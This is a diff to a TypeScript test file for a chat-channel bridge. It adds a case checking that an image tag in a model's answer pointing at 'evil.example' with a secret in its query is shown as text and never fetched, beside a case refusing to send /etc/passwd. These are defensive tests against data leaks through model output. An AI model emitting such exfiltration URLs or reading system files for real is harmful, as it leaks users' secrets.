@@ -187,6 +187,7 @@ test('a room of a channel is answered by the channel, and one of no channel is l
 test.each<{ name: string; answer: Partial<ChatMessage>; said: string[]; end: string }>([
   { name: 'a failure is said with its mend', answer: { state: 'failed', problem: { message: 'No answer within 1200 s.', mend: 'Ask for less.' } }, said: ['⚠️ No answer within 1200 s. Ask for less.'], end: '⚠️' },
   { name: 'an answer in which nothing can be shown is said to be one', answer: { text: '' }, said: ['⚠️ The model answered with nothing that can be shown. Ask again in other words.'], end: '✅' },
+  { name: 'an address stays text, and nobody fetches it', answer: { text: 'Here.\n[IMAGE:https://evil.example/?q=secret]' }, said: ['Here.\n\nhttps://evil.example/?q=secret'], end: '✅' },
   { name: 'a file that may not be sent is said, and the rest is sent', answer: { text: 'Here.\n[DOCUMENT:/etc/passwd]' }, said: ['Here.\n\n⚠️ /etc/passwd was not sent: outside the workspace'], end: '✅' },
 ])('$name', async ({ answer, said, end }) => {
   const { channel, process } = setUp({ answers: () => Promise.resolve(answerOf(answer)) });
